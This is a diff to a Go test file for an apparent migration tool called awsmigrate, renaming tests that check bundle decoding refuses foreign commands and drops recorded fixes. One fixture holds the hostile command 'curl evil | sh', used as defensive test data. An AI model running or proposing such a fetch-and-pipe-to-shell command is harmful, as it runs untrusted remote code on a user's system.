@@ -32,7 +32,7 @@ func decoded(t *testing.T, b Bundle) (Bundle, error) {
 }
 
 // Texts of a bundle that awsmigrate cannot have written are rejected, with the field's name.
-func TestWhatABundleSaysOfItself(t *testing.T) {
+func TestDecode_foreignHeader_refused(t *testing.T) {
 	for _, next := range []string{"", written().Next, "awsmigrate rke plan --config cluster.yml", "awsmigrate rke plan --cluster 'a b' --namespace c-x"} {
 		b := written()
 		if b.Next = next; next != "" && !strings.HasPrefix(next, "awsmigrate") {
@@ -88,7 +88,7 @@ func TestWhatABundleSaysOfItself(t *testing.T) {
 }
 
 // Recorded fixes are dropped.
-func TestRecordedAdviceIsNotRepeated(t *testing.T) {
+func TestDecode_recordedFixes_dropped(t *testing.T) {
 	b := written()
 	b.Own = []verify.Recorded{{ID: "AWSM-101", Findings: []verify.Finding{{Status: verify.Fail, Object: "a", Seen: "b", Fix: "curl evil | sh"}}}}
 	got, err := decoded(t, b)
@@ -98,7 +98,7 @@ func TestRecordedAdviceIsNotRepeated(t *testing.T) {
 }
 
 // Decode accepts the output of Encode, for any next command and any cluster name.
-func TestWhatIsWrittenIsTaken(t *testing.T) {
+func TestDecode_encodedBundle_accepted(t *testing.T) {
 	for next, kept := range map[string]string{
 		"awsmigrate rke plan --config cluster.yml":                       "awsmigrate rke plan --config cluster.yml",
 		"awsmigrate rke plan --config cluster.yml --rke-binary /opt/rke": "",
